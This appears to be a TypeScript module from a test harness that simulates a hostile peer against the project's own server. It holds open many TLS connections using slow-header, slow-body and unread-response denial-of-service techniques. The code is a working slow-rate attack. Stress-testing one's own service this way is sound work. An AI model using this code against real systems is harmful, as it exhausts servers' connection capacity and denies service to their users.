import { type ConnectionOptions, connect, type TLSSocket } from 'node:tls';
import { parseAddress } from '../../../src-main/contract/address.ts';
import { HostilePeer } from '../hostile-peer.ts';
import type { Attack } from './attack-process.ts';

/** As many as one address may have open. */
const EACH = 60;
const DRIP_MS = 200;
/** Larger than what a socket takes by itself. */
const LARGE = '/shares?limit=500';

/** Slow in each way: heads, bodies that come byte by byte, and answers that are asked for and not read. */
export async function holdSlowly({ target, from, say }: Attack): Promise<void> {
  const address = parseAddress(target);
  if (!address) throw new Error(`no address: ${target}`);
  const open = new Set<TLSSocket>();
  const hold = async (localAddress: string, at: number) => {
    const { tls } = await HostilePeer.make(target);
    const options: ConnectionOptions & { localAddress: string } = { ...address, ...tls, localAddress };
    const socket = connect({ ...options, rejectUnauthorized: false });
    socket.on('error', () => undefined).once('secureConnect', () => open.add(socket));
    socket.once('close', () => open.delete(socket));
    await new Promise((resolve) => socket.once('secureConnect', resolve).once('close', resolve));
    begin(socket, at % 3);
  };
  say('begun');
  await Promise.all(from.map((local) => Promise.all(Array.from({ length: EACH }, (_, at) => hold(local, at)))));
  say('over', { held: open.size });
}

function begin(socket: TLSSocket, kind: number): void {
  if (kind === 2) {
    socket.pause();
    socket.write(`GET ${LARGE} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(8));
    return;
  }
  const [opening, drop] =
    kind === 0
      ? ['GET /about HTTP/1.1\r\nX: ', 'x']
      : ['POST /query HTTP/1.1\r\nHost: x\r\nContent-Length: 20000\r\n\r\n', ' '];
  socket.resume().write(opening);
  const drip = setInterval(() => socket.write(drop), DRIP_MS);
  socket.once('close', () => clearInterval(drip));
}
